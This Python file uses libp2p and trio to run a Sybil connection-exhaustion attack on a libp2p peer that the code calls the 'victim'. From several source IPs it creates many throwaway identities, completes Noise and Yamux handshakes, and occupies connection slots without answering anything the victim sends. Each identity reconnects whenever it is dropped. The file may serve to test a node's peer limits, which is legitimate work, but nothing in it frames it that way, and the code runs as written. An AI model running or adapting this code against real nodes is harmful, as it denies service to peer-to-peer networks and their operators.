"""Many identities on few addresses: as much of libp2p as it takes to hold a place at a host, and nothing more."""

from __future__ import annotations

from collections import Counter
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as new_x25519_key
from libp2p.custom_types import TProtocol
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_ID
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.security.security_multistream import SecurityMultistream
from libp2p.stream_muxer.muxer_multistream import MuxerMultistream
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX_ID
from libp2p.stream_muxer.yamux.yamux import Yamux
from multiaddr import Multiaddr

HANDSHAKE_S = 5.0
RETRY_S = 1.0
"""Pause of an identity that was refused or thrown out. A real flood would not wait, and would fill its own backlog."""


async def stream_from(source: str, victim: str) -> trio.SocketStream:
    """A TCP connection to a full multiaddress, from the IP address `source`."""
    address = info_from_p2p_addr(Multiaddr(victim)).addrs[0]
    sock = trio.socket.socket()
    try:
        await sock.bind((source, 0))
    except BaseException:
        sock.close()
        raise
    await sock.connect((address.value_for_protocol("ip4"), int(str(address.value_for_protocol("tcp")))))
    return trio.SocketStream(sock)


@dataclass
class Sybils:
    """Identities that connect to one victim from some addresses, hold their places, and come back when they lose
    them. `done` counts handshakes that ended with a place and attempts that did not."""

    victim: str
    sources: Sequence[str]
    done: Counter[str] = field(default_factory=Counter[str])
    holding: int = 0

    async def run(self, identities: int) -> None:
        async with trio.open_nursery() as nursery:
            for number in range(identities):
                nursery.start_soon(self._one, self.sources[number % len(self.sources)])

    async def _one(self, source: str) -> None:
        while True:
            try:
                await self._hold(source)
            except Exception:  # noqa: BLE001 - refused, in whatever way
                self.done["refused"] += 1
            await trio.sleep(RETRY_S)

    async def _hold(self, source: str) -> None:
        stream = await stream_from(source, self.victim)
        try:
            with trio.fail_after(HANDSHAKE_S):
                muxed = await muxed_over(stream, self.victim)
            self.done["seated"] += 1
            self.holding += 1
            try:
                with suppress(Exception):
                    while await muxed.secured_conn.read(1):
                        """Whatever the victim sends is not answered."""
            finally:
                self.holding -= 1
        finally:
            stream.socket.close()


async def muxed_over(stream: trio.SocketStream, victim: str) -> Any:
    """The handshakes of Noise and Yamux, as a new identity."""
    peer_id = info_from_p2p_addr(Multiaddr(victim)).peer_id
    keys = create_new_key_pair()
    noise = NoiseTransport(keys, noise_privkey=new_x25519_key().private_key)
    raw = RawConnection(TrioTCPStream(stream), True)
    secured = await SecurityMultistream({NOISE_ID: noise}).secure_outbound(raw, peer_id)
    return await MuxerMultistream({TProtocol(YAMUX_ID): Yamux}).new_conn(secured, peer_id)
